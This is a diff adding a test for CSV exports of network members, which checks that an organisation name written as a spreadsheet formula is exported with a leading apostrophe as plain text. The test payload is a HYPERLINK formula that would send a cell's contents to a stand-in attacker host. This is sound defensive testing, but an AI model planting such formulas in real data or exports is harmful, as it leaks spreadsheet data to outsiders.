@@ -153,4 +153,25 @@ describe('CSV exports: network members, event attendees', () => {
     expect((await csv(`/events/${event.id}/attendees.csv`)).status).toBe(401);
     expect((await csv(`/events/${event.id}/attendees.csv`, partner)).status).toBe(403);
   });
+
+  it('writes a name that looks like a formula as text, so a spreadsheet does not run it', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';
+    const rename = (name: string) =>
+      sut.client.data(
+        'mutation ($id: ID!, $name: String!) { updateOrganisation(input: { id: $id, name: $name }) { organisation { id } } }',
+        { id: NEWPORT_CVS, name },
+        coordinator,
+      );
+    const { organisation } = await sut.client.data<{ organisation: { name: string } }>(
+      'query ($id: ID!) { organisation(id: $id) { name } }',
+      { id: NEWPORT_CVS },
+    );
+    await rename(formula);
+    try {
+      const { rows } = await csv(`/networks/${networkId}/members.csv`);
+      expect(rows.find((r) => r.organisation_id === NEWPORT_CVS)?.organisation).toBe(`'${formula}`);
+    } finally {
+      await rename(organisation.name);
+    }
+  });
 });
